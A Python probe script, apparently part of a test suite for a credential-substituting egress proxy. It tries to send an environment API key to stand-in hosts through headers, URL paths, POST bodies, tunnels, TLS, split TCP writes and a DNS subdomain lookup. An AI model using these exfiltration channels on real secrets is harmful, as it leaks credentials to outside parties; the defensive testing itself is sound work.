"""A placeholder where it does not belong."""

from probe import *

KEY = os.environ["API_KEY"]
AUTH = "Authorization: Bearer " + KEY
PATH = "/" + TOKEN


def inside(data):
    trust = ssl.create_default_context()
    with trust.wrap_socket(dial("api.test", 443), server_hostname="api.test") as stream:
        stream.sendall(data)
        return read(stream)


def opaque(*parts):
    with dial("allowed.test", 9000) as stream:
        for part in parts:
            stream.sendall(part)
            time.sleep(0.1)
        return read(stream)


def post(host):
    return request(host, PATH, f"Content-Length: {len(KEY)}", method="POST") + KEY.encode()


def attack():
    for header in (AUTH, "X-Other: " + KEY):
        say("plain", send("allowed.test", 80, request("allowed.test", PATH, header)))
        say("plain", tunnel("allowed.test:80", request("allowed.test", PATH, header)))
        whole = request("allowed.test", "http://allowed.test" + PATH, header)
        say("plain", to_proxy(whole))
        say("plain", send("api.test", 80, request("api.test", PATH, header)))
    say("plain", send("allowed.test", 80, request("allowed.test", PATH + KEY)))
    say("plain", send("allowed.test", 80, post("allowed.test")))
    say("secure", attempt(inside, request("api.test", PATH, "X-Other: " + KEY)))
    say("secure", attempt(inside, request("api.test", PATH + "?" + KEY)))
    say("secure", attempt(inside, request("allowed.test", PATH, AUTH)))
    say("secure", attempt(inside, post("api.test")))
    say("opaque", attempt(opaque, b"first", KEY.encode()))
    say("opaque", attempt(opaque, KEY.encode()[:30], KEY.encode()[30:]))
    say("name", attempt(socket.gethostbyname, KEY + ".allowed.test"))


start(attack)
